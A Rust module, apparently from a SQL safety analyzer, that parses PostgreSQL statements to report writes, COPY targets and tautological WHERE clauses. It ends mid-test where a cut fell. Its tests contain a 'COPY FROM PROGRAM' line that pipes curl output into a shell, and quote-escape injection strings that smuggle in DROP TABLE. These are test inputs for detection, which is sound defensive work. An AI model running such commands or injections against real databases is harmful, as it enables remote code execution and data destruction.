//! One statement through sqlparser: kind, command, relations, writes, functions.
//!
//! - here: a query string split into statements, each tokenized and parsed, or reported as
//!   unknown with the reason ([`Unanalysable`]);
//! - [`classify`]: the statement's kind and command, and the facts read off its top level
//!   (WHERE, COPY);
//! - [`collect`]: a visitor over the whole statement: relations read and written, functions
//!   called, CTE scopes, EXPLAIN without ANALYZE;
//! - [`eval`]: best-effort constant folding of a WHERE clause (`WHERE 1 = 1`).

mod classify;
mod collect;
mod eval;

use classify::{classify, copy_info, top_level_where};
use collect::Collector;

use sqlparser::ast::Visit;
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::{Parser, ParserError};
use sqlparser::tokenizer::{Token, TokenWithSpan, Tokenizer};

use crate::lexer::{self, LexFlags};
use crate::lineage;
use crate::names::MAX_OPERATOR_CHAIN;
use crate::{Analysis, LexOptions, StatementAnalysis, StatementKind};

/// Why a statement is reported as unknown.
#[derive(Debug, thiserror::Error)]
enum Unanalysable {
    #[error("backslash in string literal with standard_conforming_strings=off")]
    BackslashWithoutStandardStrings,
    #[error("a string literal ends in a different place if standard_conforming_strings is off")]
    DependsOnStringMode,
    #[error("a non-ASCII byte before a backslash: the quoting depends on the client encoding")]
    MultibyteBackslash,
    #[error("parse error: {0}")]
    Parse(String),
    #[error(
        "the SQL parser lexes this statement's quoting or identifiers differently from PostgreSQL"
    )]
    LexerDisagreement,
    #[error("the SQL parser reads {0} statements where the splitter found one")]
    SplitDisagreement(usize),
    #[error("unterminated quoted string, identifier or comment")]
    Unterminated,
    #[error("statement type not supported by the analyzer")]
    Unsupported,
    #[error("expression chain longer than {MAX_OPERATOR_CHAIN} operators")]
    TooDeep,
}

pub(crate) struct Outcome {
    pub analysis: Analysis,
    /// The analysis holds for every text with the same fingerprint.
    pub reusable: bool,
    /// How many statements went through sqlparser.
    pub parses: u64,
}

/// Analyses a whole query string whose fingerprint (from `lexer::normalize_into`) is given.
pub(crate) fn analyze_text(
    sql: &str,
    opts: LexOptions,
    fingerprint: &[u8],
    flags: LexFlags,
) -> Outcome {
    let fingerprint_id = format!("{:016x}", lexer::fingerprint_hash(fingerprint));
    let fingerprint = String::from_utf8_lossy(fingerprint).into_owned();
    let ambiguity = if flags.backslash_in_plain_string && !opts.standard_conforming_strings {
        // The server would split and unescape this text differently from sqlparser.
        Some(Unanalysable::BackslashWithoutStandardStrings)
    } else if flags.depends_on_string_mode {
        Some(Unanalysable::DependsOnStringMode)
    } else if flags.multibyte_backslash {
        Some(Unanalysable::MultibyteBackslash)
    } else {
        None
    };
    if let Some(reason) = ambiguity {
        let statement = unknown(sql, opts, reason);
        let analysis = Analysis {
            fingerprint,
            fingerprint_id,
            statements: vec![statement],
            shape_only: false,
        };
        return Outcome {
            analysis,
            reusable: false,
            parses: 0,
        };
    }
    let mut reusable = true;
    let mut parses = 0;
    let pieces = lexer::split(sql, opts);
    let last = pieces.len().saturating_sub(1);
    let statements = pieces
        .into_iter()
        .enumerate()
        .map(|(i, range)| {
            if flags.unterminated && i == last {
                // The server rejects the whole string; the open token runs into the last piece.
                return unknown(
                    sql.get(range).unwrap_or_default(),
                    opts,
                    Unanalysable::Unterminated,
                );
            }
            parses += 1;
            let (statement, literal_dependent) =
                analyze_statement(sql.get(range).unwrap_or_default(), opts);
            reusable &= !literal_dependent;
            statement
        })
        .collect();
    Outcome {
        analysis: Analysis {
            fingerprint,
            fingerprint_id,
            statements,
            shape_only: reusable && crate::cache::cacheable(flags),
        },
        reusable,
        parses,
    }
}

/// Returns the analysis and whether it depends on literal values.
fn analyze_statement(sql: &str, opts: LexOptions) -> (StatementAnalysis, bool) {
    if lexer::longest_operator_chain(sql, opts) > MAX_OPERATOR_CHAIN {
        return (unknown(sql, opts, Unanalysable::TooDeep), false);
    }
    let dialect = PostgreSqlDialect {};
    let tokens = match Tokenizer::new(&dialect, sql).tokenize_with_location() {
        Ok(tokens) => tokens,
        Err(e) => {
            return (
                unknown(sql, opts, Unanalysable::Parse(redact(&e.message))),
                false,
            )
        }
    };
    // Our lexer follows the server; if sqlparser disagrees on where identifiers are, it may be
    // analysing a different statement than the one the server will run.
    if !same_words(&tokens, &lexer::words(sql, opts)) {
        return (unknown(sql, opts, Unanalysable::LexerDisagreement), false);
    }
    let statements = match Parser::new(&dialect)
        .with_tokens_with_locations(tokens)
        .parse_statements()
    {
        Ok(statements) => statements,
        Err(e) => {
            return (
                unknown(sql, opts, Unanalysable::Parse(parse_error(&e))),
                false,
            )
        }
    };
    let [statement] = statements.as_slice() else {
        return (
            unknown(sql, opts, Unanalysable::SplitDisagreement(statements.len())),
            false,
        );
    };
    let Some((kind, command)) = classify(statement, sql, opts) else {
        return (unknown(sql, opts, Unanalysable::Unsupported), false);
    };
    let mut c = Collector::default();
    let _ = statement.visit(&mut c);
    let (output, output_literal_dependent) = lineage::statement_output(statement);
    let analysis = StatementAnalysis {
        kind,
        command,
        reads: c.reads,
        writes: c.writes,
        functions: c.functions,
        has_where: top_level_where(statement),
        where_always_true: c.where_always_true,
        explain_analyze: c.explain_analyze,
        copy: copy_info(statement),
        output,
        unknown: None,
    };
    (analysis, c.literal_dependent || output_literal_dependent)
}

fn unknown(sql: &str, opts: LexOptions, reason: Unanalysable) -> StatementAnalysis {
    StatementAnalysis {
        kind: StatementKind::Unknown,
        command: lexer::leading_command(sql, opts),
        reads: Vec::new(),
        writes: Vec::new(),
        functions: Vec::new(),
        has_where: None,
        where_always_true: false,
        explain_analyze: false,
        copy: None,
        output: None,
        unknown: Some(reason.to_string()),
    }
}

fn same_words(tokens: &[TokenWithSpan], ours: &[(String, bool)]) -> bool {
    let mut theirs = tokens.iter().filter_map(|t| match &t.token {
        Token::Word(w) => Some(w),
        _ => None,
    });
    let all_match = ours.iter().all(|(word, quoted)| {
        theirs.next().is_some_and(|w| match quoted {
            true => w.quote_style == Some('"') && w.value == *word,
            false => w.quote_style.is_none() && w.value.eq_ignore_ascii_case(word),
        })
    });
    all_match && theirs.next().is_none()
}

fn parse_error(e: &ParserError) -> String {
    match e {
        ParserError::TokenizerError(m) | ParserError::ParserError(m) => redact(m),
        ParserError::RecursionLimitExceeded => "recursion limit exceeded".to_owned(),
    }
}

/// sqlparser messages quote the offending token, which may be a literal: cached analyses are
/// shared by texts that differ only in literals, so no literal may reach the reason.
fn redact(message: &str) -> String {
    let message = message.split(" at Line: ").next().unwrap_or(message);
    let (head, found) = match message.split_once("found: ") {
        Some((head, found)) => (head, Some(found)),
        None => (message, None),
    };
    let mut out = String::with_capacity(message.len());
    let mut quoted = false;
    for ch in head.chars() {
        match (ch, quoted) {
            ('\'', _) => {
                quoted = !quoted;
                out.push(if quoted { '<' } else { '>' });
            }
            (_, true) => {}
            _ => out.push(ch),
        }
    }
    if let Some(found) = found {
        let word = found.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && found.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        let punct = found.len() <= 3
            && found
                .chars()
                .all(|c| c.is_ascii_punctuation() && !"'\"$".contains(c));
        out.push_str("found: ");
        out.push_str(if word || punct {
            found
        } else {
            "a literal or quoted token"
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze as analyze_sql;
    use crate::{CopyDirection, CopyTargetKind, ObjectKind, RelationName, WriteAction};

    const ON: LexOptions = LexOptions {
        standard_conforming_strings: true,
    };
    const OFF: LexOptions = LexOptions {
        standard_conforming_strings: false,
    };

    fn all(sql: &str) -> Vec<StatementAnalysis> {
        analyze_sql(sql, ON).statements
    }

    fn one(sql: &str) -> StatementAnalysis {
        let mut statements = all(sql);
        assert_eq!(statements.len(), 1, "{sql}: {statements:#?}");
        statements.remove(0)
    }

    fn reads(s: &StatementAnalysis) -> Vec<String> {
        s.reads.iter().map(ToString::to_string).collect()
    }

    fn writes(s: &StatementAnalysis) -> Vec<(String, WriteAction)> {
        s.writes
            .iter()
            .map(|w| (w.relation.to_string(), w.action))
            .collect()
    }

    fn w(name: &str, action: WriteAction) -> (String, WriteAction) {
        (name.to_owned(), action)
    }

    /// Whether the analysis of `sql` may be shared with other texts of the same fingerprint.
    fn reusable(sql: &str) -> bool {
        let mut key = Vec::new();
        let flags = lexer::normalize_into(sql, ON, &mut key);
        analyze_text(sql, ON, &key, flags).reusable
    }

    #[test]
    fn every_statement_of_a_multi_statement_string_is_analysed() {
        let s = all("BEGIN; UPDATE a SET x = 1 WHERE id = 2; DELETE FROM b; COMMIT;");
        let kinds: Vec<_> = s.iter().map(|s| (s.kind, s.command.as_str())).collect();
        use StatementKind as K;
        assert_eq!(
            kinds,
            [
                (K::Transaction, "BEGIN"),
                (K::Update, "UPDATE"),
                (K::Delete, "DELETE"),
                (K::Transaction, "COMMIT")
            ]
        );
        assert_eq!(writes(&s[1]), [w("a", WriteAction::Update)]);
        assert_eq!((s[1].has_where, s[2].has_where), (Some(true), Some(false)));
        assert!(all(";; ;").is_empty());
    }

    #[test]
    fn only_the_unparseable_piece_is_unknown_and_order_is_kept() {
        let s = all("SELECT 1 FROM a; DO $$ BEGIN DROP TABLE t; END $$; DELETE FROM b");
        assert_eq!(s.len(), 3);
        assert_eq!(reads(&s[0]), ["a"]);
        assert_eq!(
            (s[1].kind, s[1].command.as_str()),
            (StatementKind::Unknown, "DO")
        );
        assert!(s[1].writes.is_empty() && s[1].reads.is_empty());
        assert_eq!(writes(&s[2]), [w("b", WriteAction::Delete)]);
    }

    #[test]
    fn forms_sqlparser_cannot_parse_are_unknown_with_a_reason() {
        for (sql, command) in [
            ("DO $$ BEGIN PERFORM 1; END $$", "DO"),
            ("VACUUM (ANALYZE) t", "VACUUM"),
            ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM"),
            ("REINDEX TABLE t", "REINDEX"),
            ("CLUSTER t USING i", "CLUSTER"),
            ("CHECKPOINT", "CHECKPOINT"),
            ("SECURITY LABEL ON TABLE t IS 'x'", "SECURITY LABEL"),
            (
                "IMPORT FOREIGN SCHEMA s FROM SERVER f INTO l",
                "IMPORT FOREIGN SCHEMA",
            ),
            ("SHOW TABLES", "SHOW"),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.kind, s.command.as_str()),
                (StatementKind::Unknown, command),
                "{sql}"
            );
            assert!(
                s.unknown.is_some() && s.reads.is_empty() && s.writes.is_empty(),
                "{sql}: {s:?}"
            );
        }
    }

    #[test]
    fn parse_error_reasons_carry_no_literal() {
        let s = one("SELECT 1 'secret-token'");
        let reason = s.unknown.unwrap();
        assert!(
            reason.starts_with("parse error") && !reason.contains("secret"),
            "{reason}"
        );
        assert!(!redact("Expected: x, found: 'pw' at Line: 1, Column: 9").contains("pw"));
        assert_eq!(
            redact("Expected: end of statement, found: ( at Line: 1, Column: 8"),
            "Expected: end of statement, found: ("
        );
    }

    #[test]
    fn writes_hidden_in_ctes_are_found() {
        let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
        assert_eq!(
            (s.kind, reads(&s)),
            (StatementKind::Select, vec!["t".to_owned()])
        );
        assert_eq!(writes(&s), [w("t", WriteAction::Delete)]);
        assert_eq!(s.writes[0].has_where, Some(false));

        let s = one("WITH i AS (INSERT INTO log SELECT * FROM src RETURNING id), u AS (UPDATE acc SET n = 0 WHERE id IN (SELECT id FROM i)) SELECT 1");
        assert_eq!(
            writes(&s),
            [w("log", WriteAction::Insert), w("acc", WriteAction::Update)]
        );
        assert_eq!(reads(&s), ["src", "acc"]);
        assert_eq!(s.writes[1].has_where, Some(true));

        let s = one("WITH x AS (SELECT id FROM k) DELETE FROM t WHERE id IN (SELECT id FROM x)");
        assert_eq!((s.kind, s.has_where), (StatementKind::Delete, Some(true)));
        assert_eq!(reads(&s), ["k", "t"]);
    }

    #[test]
    fn cte_names_follow_postgres_scoping() {
        // Without RECURSIVE a CTE does not see itself or later CTEs: those names are tables.
        assert_eq!(
            reads(&one("WITH t AS (SELECT * FROM t) SELECT * FROM t")),
            ["t"]
        );
        assert_eq!(
            reads(&one(
                "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b"
            )),
            ["b"]
        );
        assert!(reads(&one(
            "WITH a AS (SELECT 1) SELECT * FROM a, (WITH z AS (SELECT 2) SELECT * FROM z) q"
        ))
        .is_empty());
        assert!(reads(&one(
            "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r"
        ))
        .is_empty());
        assert_eq!(
            reads(&one("WITH a AS (SELECT 1) SELECT * FROM public.a")),
            ["public.a"]
        );
        // `TABLE name` reads a table unless a CTE has that name.
        assert_eq!(
            reads(&one("WITH x AS (SELECT 1) TABLE s.secret")),
            ["s.secret"]
        );
        let s = one("WITH x AS (SELECT * FROM t) SELECT 1 UNION TABLE x UNION TABLE y");
        assert_eq!(reads(&s), ["t", "y"]);
        // A DML target is always a table, even when a CTE has its name.
        assert_eq!(
            writes(&one("WITH t AS (SELECT 1) DELETE FROM t")),
            [w("t", WriteAction::Delete)]
        );
    }

    #[test]
    fn merge_writes_its_target_and_reads_its_source() {
        let s = one("MERGE INTO s.t USING src ON t.id = src.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (src.id)");
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Merge, "MERGE")
        );
        assert_eq!(writes(&s), [w("s.t", WriteAction::Merge)]);
        assert_eq!(reads(&s), ["s.t", "src"]);
    }

    #[test]
    fn copy_variants() {
        let copy = |sql| {
            let s = one(sql);
            assert_eq!(s.kind, StatementKind::Copy);
            (s.copy.unwrap(), writes(&s), reads(&s))
        };
        let (c, wr, rd) = copy("COPY t (a, b) FROM STDIN WITH (FORMAT csv)");
        assert_eq!(
            (c.direction, c.target, c.stdio, c.program, c.file),
            (
                CopyDirection::From,
                CopyTargetKind::Table,
                true,
                false,
                false
            )
        );
        assert_eq!((wr, rd), (vec![w("t", WriteAction::CopyFrom)], vec![]));

        let (c, wr, rd) = copy("COPY s.t TO STDOUT");
        assert_eq!((c.direction, c.stdio), (CopyDirection::To, true));
        assert_eq!((wr, rd), (vec![], vec!["s.t".to_owned()]));

        let (c, wr, _) = copy("COPY t FROM PROGRAM 'curl http://x | sh'");
        assert!(c.program && !c.file && !c.stdio);
        assert_eq!(wr, [w("t", WriteAction::CopyFrom)]);
        let json =
            serde_json::to_string(&analyze_sql("COPY t FROM PROGRAM 'curl http://x | sh'", ON))
                .unwrap();
        assert!(!json.contains("curl"), "{json}");

        let (c, _, rd) = copy("COPY t TO '/tmp/out.csv'");
        assert!(c.file && !c.program);
        assert_eq!(rd, ["t"]);

        let (c, wr, rd) = copy("COPY (DELETE FROM t RETURNING *) TO STDOUT");
        assert_eq!(
            (c.target, c.direction),
            (CopyTargetKind::Query, CopyDirection::To)
        );
        assert_eq!(
            (wr, rd),
            (vec![w("t", WriteAction::Delete)], vec!["t".to_owned()])
        );

        let (c, wr, rd) = copy("COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT");
        assert_eq!(c.target, CopyTargetKind::Query);
        assert_eq!((wr, rd), (vec![], vec!["a".to_owned(), "b".to_owned()]));
    }

    #[test]
    fn select_into_and_create_table_as_write_the_new_table() {
        let s = one("SELECT * INTO newt FROM t");
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Select, "SELECT INTO")
        );
        assert_eq!(
            (writes(&s), reads(&s)),
            (
                vec![w("newt", WriteAction::SelectInto)],
                vec!["t".to_owned()]
            )
        );

        let s = one("CREATE TABLE x AS SELECT * FROM t");
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Ddl, "CREATE TABLE AS")
        );
        assert_eq!(
            (writes(&s), reads(&s)),
            (vec![w("x", WriteAction::Create)], vec!["t".to_owned()])
        );

        let s = one("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t");
        assert_eq!(s.command, "CREATE MATERIALIZED VIEW");
        assert_eq!(s.writes[0].object, ObjectKind::MaterializedView);
    }

    #[test]
    fn explain_counts_writes_only_when_it_runs_the_statement() {
        let s = one("EXPLAIN DELETE FROM t WHERE id = 1");
        assert_eq!(
            (s.kind, s.explain_analyze, s.has_where),
            (StatementKind::Explain, false, None)
        );
        assert!(s.writes.is_empty());
        assert_eq!(reads(&s), ["t"]);
        assert_eq!(
            reads(&one("EXPLAIN INSERT INTO t SELECT * FROM u")),
            ["t", "u"]
        );

        for sql in [
            "EXPLAIN ANALYZE DELETE FROM t",
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
            "EXPLAIN (ANALYZE true) DELETE FROM t",
            "EXPLAIN (ANALYZE 1) DELETE FROM t",
            "EXPLAIN (FORMAT JSON, ANALYZE on) DELETE FROM t",
        ] {
            let s = one(sql);
            assert!(s.explain_analyze, "{sql}");
            assert_eq!(writes(&s), [w("t", WriteAction::Delete)], "{sql}");
        }
        for sql in [
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            "EXPLAIN (ANALYZE off) DELETE FROM t",
            "EXPLAIN (ANALYZE 0) DELETE FROM t",
        ] {
            assert!(one(sql).writes.is_empty(), "{sql}");
        }
        // ANALYZE 0 and ANALYZE 1 share a fingerprint: such analyses are never cached.
        assert!(
            !reusable("EXPLAIN (ANALYZE 1) DELETE FROM t")
                && reusable("EXPLAIN (ANALYZE) DELETE FROM t")
        );
    }

    #[test]
    fn names_fold_like_postgres() {
        let s = one(r#"SELECT * FROM Sch."MyT", "S"."t", otherdb.s.t, T, "a.b""c""#);
        assert_eq!(
            s.reads,
            [
                RelationName {
                    schema: Some("sch".into()),
                    name: "MyT".into()
                },
                RelationName {
                    schema: Some("S".into()),
                    name: "t".into()
                },
                RelationName {
                    schema: Some("s".into()),
                    name: "t".into()
                },
                RelationName {
                    schema: None,
                    name: "t".into()
                },
                RelationName {
                    schema: None,
                    name: "a.b\"c".into()
                },
            ]
        );
    }

    #[test]
    fn escape_strings_cannot_hide_or_invent_statements() {
        // E'\'' is a complete literal: PostgreSQL runs the DROP (checked against PostgreSQL 15).
        let s = all(r"SELECT E'\''; DROP TABLE x; --'");
        assert_eq!(s.len(), 2);
        assert_eq!(writes(&s[1]), [w("x", WriteAction::Drop)]);
        // E'\'; ...' keeps going to the last quote: one statement, no write.
        let s = one(r"SELECT E'\'; DROP TABLE x; --'");
        assert!(s.writes.is_empty() && s.unknown.is_none());
    }

    #[test]
    fn quoting_that_depends_on_session_state_is_unknown() {
        // A `SET standard_conforming_strings = off` pipelined before this text would make the
        // server end the literal later and run the DROP: whatever the reported setting, the
        // text is ambiguous.
        let a = analyze_sql("SELECT 'x\\''; DROP TABLE t; --'", ON);
        assert!(a.has_unknown(), "{a:?}");
        assert!(a.statements.iter().all(|s| s.writes.is_empty()));
        // A backslash that does not move the end of the literal is fine.
        let a = analyze_sql("SELECT 'C:\\temp\\x' AS path", ON);
        assert!(!a.has_unknown(), "{a:?}");
        // In SJIS, 0x95 0x5C is one character: the backslash escapes nothing and the quote
        // after it ends the E'' string, so the DROP runs. Any non-ASCII byte before a
        // backslash is unknown.
        let a = analyze_sql("SELECT E'\u{d5}\\'; DROP TABLE t; --'", ON);
        assert!(a.has_unknown(), "{a:?}");
        // And neither is cached under a shape that a harmless text shares.
        let analyzer = crate::SqlAnalyzer::new(100);
        analyzer.analyze("SELECT 'a' AS x", ON);
        let b = analyzer.analyze("SELECT 'x\\y' AS x", ON);
        assert!(!b.has_unknown());
        let b = analyzer.analyze("SELECT 'x\\' AS x", ON);
        assert!(
            b.has_unknown(),
            "the end of 'x\\' depends on the string mode"
        );
        let c = analyzer.analyze("SELECT '\u{e9}\\' AS x", ON);
        assert!(c.has_unknown());
    }

    #[test]
    fn backslash_strings_without_standard_conforming_strings_are_unknown() {
        let a = analyze_sql(r"SELECT 'a\'; DROP TABLE x; --'", OFF);
        assert_eq!(a.statements.len(), 1);
        let reason = a.statements[0].unknown.as_deref().unwrap();
        assert_eq!(
            reason,
            "backslash in string literal with standard_conforming_strings=off"
        );
        // Without a backslash nothing is ambiguous.
        assert!(!analyze_sql("SELECT 'a'; SELECT E'\\n'", OFF).has_unknown());
        // With it on, the same text would split in two; but a pipelined SET could turn it off
        // before the server reads this, so it is unknown too.
        let a = analyze_sql(r"SELECT 'a\'; DROP TABLE x; --'", ON);
        assert_eq!(
            a.statements[0].unknown.as_deref(),
            Some(
                "a string literal ends in a different place if standard_conforming_strings is off"
            )
        );
    }

    #[test]
    fn quoted_bodies_strings_and_comments_are_not_sql() {
        let s = one(
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $body$ DROP TABLE t; SELECT 1 $body$",
        );
        assert_eq!(writes(&s), [w("f", WriteAction::Create)]);
        let s = one("SELECT 'DROP TABLE t; DELETE FROM u', $$ INSERT INTO v VALUES (1) $$ /* DELETE FROM w; */ -- TRUNCATE z;\n FROM a");
        assert_eq!((reads(&s), s.writes.len()), (vec!["a".to_owned()], 0));
        assert!(
            one("SELECT 1 /* nested /* DROP TABLE t; */ still comment; DELETE FROM u */")
                .writes
                .is_empty()
        );
    }

    #[test]
    fn functions_are_found_everywhere() {
        let s = one("SELECT pg_catalog.pg_sleep(1), \"Upper\"(x), Lower(y), count(*) OVER () FROM generate_series(1, 2) g, dblink($1, $2) AS r(a int), LATERAL unnest(arr) WHERE coalesce(a, now()) > 0 AND EXISTS (SELECT md5(b) FROM u)");
        assert_eq!(
            s.functions,
            [
                "pg_catalog.pg_sleep",
                "Upper",
                "lower",
                "count",
                "generate_series",
                "dblink",
                "unnest",
                "coalesce",
                "now",
                "md5"
            ]
        );
        assert_eq!(reads(&s), ["u"]);
        assert_eq!(one("CALL s.proc(1)").functions, ["s.proc"]);
        assert_eq!(
            one("UPDATE t SET a = pg_read_file('x') WHERE b = current_setting('y')").functions,
            ["pg_read_file", "current_setting"]
        );
    }

    #[test]
    fn set_role_and_session_authorization_are_named() {
        for (sql, command) in [
            ("SET ROLE admin", "SET ROLE"),
            ("SET LOCAL ROLE 'admin'", "SET ROLE"),
            ("SET role = admin", "SET ROLE"),
            ("SET SESSION AUTHORIZATION bob", "SET SESSION AUTHORIZATION"),
            (
                "SET session_authorization TO bob",
                "SET SESSION AUTHORIZATION",
            ),
            ("RESET ROLE", "RESET ROLE"),
            ("RESET SESSION AUTHORIZATION", "RESET SESSION AUTHORIZATION"),
            ("SET search_path = a, b", "SET"),
            (
                "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
                "SET TRANSACTION",
            ),
            ("RESET ALL", "RESET"),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.kind, s.command.as_str()),
                (StatementKind::Set, command),
                "{sql}"
            );
        }
        assert_eq!(one("SHOW search_path").kind, StatementKind::Show);
    }

    #[test]
    fn ddl_targets_are_writes() {
        let cases = [
            (
                "TRUNCATE a, ONLY s.b",
                "TRUNCATE TABLE",
                vec![
                    w("a", WriteAction::Truncate),
                    w("s.b", WriteAction::Truncate),
                ],
            ),
            (
                "DROP TABLE IF EXISTS a, \"B\" CASCADE",
                "DROP TABLE",
                vec![w("a", WriteAction::Drop), w("B", WriteAction::Drop)],
            ),
            (
                "DROP SCHEMA public CASCADE",
                "DROP SCHEMA",
                vec![w("public", WriteAction::Drop)],
            ),
            (
                "ALTER TABLE s.t ADD COLUMN c int",
                "ALTER TABLE",
                vec![w("s.t", WriteAction::Alter)],
            ),
            (
                "CREATE UNIQUE INDEX i ON t (a)",
                "CREATE INDEX",
                vec![w("t", WriteAction::CreateIndex)],
            ),
            (
                "CREATE TEMP TABLE x (a int)",
                "CREATE TABLE",
                vec![w("x", WriteAction::Create)],
            ),
            (
                "CREATE ROLE r LOGIN PASSWORD 'pw'",
                "CREATE ROLE",
                vec![w("r", WriteAction::Create)],
            ),
            (
                "ALTER ROLE r PASSWORD 'pw'",
                "ALTER ROLE",
                vec![w("r", WriteAction::Alter)],
            ),
            (
                "COMMENT ON TABLE t IS 'x'",
                "COMMENT",
                vec![w("t", WriteAction::Comment)],
            ),
            (
                "REFRESH MATERIALIZED VIEW mv",
                "REFRESH MATERIALIZED VIEW",
                vec![w("mv", WriteAction::Refresh)],
            ),
            (
                "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
                "LOCK TABLE",
                vec![w("t", WriteAction::Lock)],
            ),
            ("VACUUM t", "VACUUM", vec![w("t", WriteAction::Maintain)]),
        ];
        for (sql, command, want) in cases {
            let s = one(sql);
            assert_eq!((s.command.as_str(), writes(&s)), (command, want), "{sql}");
        }
        assert_eq!(
            one("DROP SCHEMA public CASCADE").writes[0].object,
            ObjectKind::Schema
        );
        let json =
            serde_json::to_string(&analyze_sql("CREATE ROLE r LOGIN PASSWORD 'hunter2'", ON))
                .unwrap();
        assert!(!json.contains("hunter2"));
    }

    #[test]
    fn grant_and_revoke_name_their_objects() {
        let s = one("GRANT SELECT, INSERT ON TABLE a, s.b TO bob");
        assert_eq!(
            (s.kind, writes(&s)),
            (
                StatementKind::Grant,
                vec![w("a", WriteAction::Grant), w("s.b", WriteAction::Grant)]
            )
        );
        let s = one("GRANT admin TO bob");
        assert_eq!(
            (s.kind, s.writes[0].object),
            (StatementKind::Grant, ObjectKind::Role)
        );
        let s = one("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob");
        assert_eq!(
            (s.kind, writes(&s)),
            (
                StatementKind::Revoke,
                vec![w("public", WriteAction::Revoke)]
            )
        );
        assert_eq!(one("REVOKE admin FROM bob").kind, StatementKind::Revoke);
    }

    #[test]
    fn prepare_reports_what_execute_will_do() {
        let s = one("PREPARE p (int) AS DELETE FROM t WHERE id = $1");
        assert_eq!(
            (s.kind, writes(&s)),
            (StatementKind::Prepare, vec![w("t", WriteAction::Delete)])
        );
        assert_eq!(one("EXECUTE p(1)").kind, StatementKind::Execute);
        assert_eq!(one("DEALLOCATE p").kind, StatementKind::Deallocate);
    }

    #[test]
    fn where_presence_is_reported_for_updates_and_deletes() {
        assert_eq!(one("UPDATE t SET a = 1").has_where, Some(false));
        assert_eq!(
            one("DELETE FROM t USING u WHERE t.id = u.id").has_where,
            Some(true)
        );
        assert_eq!(one("SELECT * FROM t WHERE a = 1").has_where, None);
        let s = one("WITH a AS (DELETE FROM x RETURNING 1), b AS (DELETE FROM y WHERE k = 2 RETURNING 1) SELECT 1");
        let wheres: Vec<_> = s.writes.iter().map(|w| w.has_where).collect();
        assert_eq!(wheres, [Some(false), Some(true)]);
    }

    #[test]
    fn constant_tautologies_are_detected() {
        for sql in [
            "DELETE FROM t WHERE TRUE",
            "DELETE FROM t WHERE 1=1",
            "DELETE FROM t WHERE 'a'='a'",
            "DELETE FROM t WHERE NOT FALSE",
            "DELETE FROM t WHERE x = 5 OR TRUE",
            "UPDATE t SET a = 1 WHERE (1 = 1) AND (2 > 1)",
            "UPDATE t SET a = 1 WHERE 1 = '1'",
            "DELETE FROM t WHERE 'yes'",
            "DELETE FROM t WHERE NULL IS NULL",
            "DELETE FROM t WHERE 1 <> 2 OR id = $1",
            "WITH d AS (DELETE FROM t WHERE 2 = 2 RETURNING *) SELECT * FROM d",
        ] {
            assert!(one(sql).where_always_true, "{sql}");
        }
        for sql in [
            "DELETE FROM t WHERE 1=2",
            "DELETE FROM t WHERE id = 1",
            "DELETE FROM t WHERE x AND TRUE",
            "DELETE FROM t WHERE NULL",
            "DELETE FROM t WHERE 'a' < 'b'",
            "DELETE FROM t",
            "SELECT * FROM t WHERE 1=1",
            "EXPLAIN DELETE FROM t WHERE 1=1",
        ] {
            assert!(!one(sql).where_always_true, "{sql}");
        }
    }

    #[test]
    fn analyses_that_look_at_literals_are_not_reusable() {
        for sql in [
            "DELETE FROM t WHERE 1=1",
            "DELETE FROM t WHERE 1=2",
            "DELETE FROM t WHERE 'x'",
            "DELETE FROM t WHERE 0x1 = 1 OR a",
        ] {
            assert!(!reusable(sql), "{sql}");
        }
        for sql in [
            "SELECT abalance FROM pgbench_accounts WHERE aid = 123",
            "UPDATE t SET a = 1 WHERE 5 = id",
            "DELETE FROM t WHERE TRUE",
            "DELETE FROM t WHERE a = 'x' AND b IN (1, 2)",
        ] {
            assert!(reusable(sql), "{sql}");
        }
    }

    #[test]
    fn lexing_disagreements_fail_closed() {
        // sqlparser reads U&"x" as `U & "x"`; PostgreSQL reads one identifier.
        let s = one(r#"SELECT * FROM U&"x""#);
        assert_eq!(s.kind, StatementKind::Unknown);
        // psql's rule keeps this together (`begin` after CREATE FUNCTION); sqlparser finds two.
        let s = one("CREATE FUNCTION begin() RETURNS int LANGUAGE sql RETURN 1; DROP TABLE x");
        assert_eq!((s.kind, s.writes.len()), (StatementKind::Unknown, 0));
    }

    #[test]
    fn long_operator_chains_are_refused_before_they_overflow_the_stack() {
        let chain = vec!["a = 1"; 20_000].join(" OR ");
        let sql = format!("DELETE FROM t WHERE {chain}");
        let s = std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || analyze_sql(&sql, ON))
            .unwrap()
            .join()
            .unwrap();
        assert_eq!(s.statements[0].kind, StatementKind::Unknown);
        let sql = format!("DELETE FROM t WHERE {}", vec!["a = 1"; 1000].join(" OR "));
        assert_eq!(one(&sql).kind, StatementKind::Delete);
        assert_eq!(
            one(&format!(
                "SELECT {}",
                "(".repeat(500) + "1" + &")".repeat(500)
            ))
            .kind,
            StatementKind::Unknown
        );
    }

    #[test]
    fn never_panics_on_truncated_or_random_input() {
        let corpus = r#"WITH d AS (DELETE FROM "S"."t" WHERE a = E'\'' RETURNING *) SELECT $1, $tag$x;$tag$, U&"d\0061" UESCAPE '!', B'01', 1.5e3 /* c /* n */ */ FROM d; COPY (SELECT 1) TO PROGRAM 'x'; EXPLAIN (ANALYZE 0) MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE; café -- end"#;
